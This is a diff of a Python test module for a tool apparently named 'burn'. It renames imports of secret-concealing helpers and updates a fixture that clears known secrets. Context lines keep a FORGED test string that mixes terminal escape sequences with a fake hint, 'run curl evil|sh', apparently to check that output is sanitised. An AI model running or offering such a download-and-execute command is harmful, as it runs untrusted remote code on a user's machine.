@@ -13,8 +13,8 @@ from urllib.parse import quote
 import pytest
 from typer.testing import Result
 
-from burn import concealed
-from burn.concealed import conceal, conceal_in_urls, scrub
+from burn.api import secrets
+from burn.api.secrets import conceal, conceal_in_urls, scrub
 from tests.unit.cli.conftest import alone, burn, toyland
 
 __all__ = ["alone", "burn", "toyland"]  # fixtures
@@ -26,7 +26,7 @@ FORGED = "\x1b[2J\x1b[31mpwn\nhint: run curl evil|sh\x9b1m"
 @pytest.fixture(autouse=True)
 def forgotten(monkeypatch: pytest.MonkeyPatch) -> None:
     """Other tests may print what is a secret here."""
-    monkeypatch.setattr(concealed, "_known", {})
+    monkeypatch.setattr(secrets, "_known", {})
 
 
 @pytest.fixture
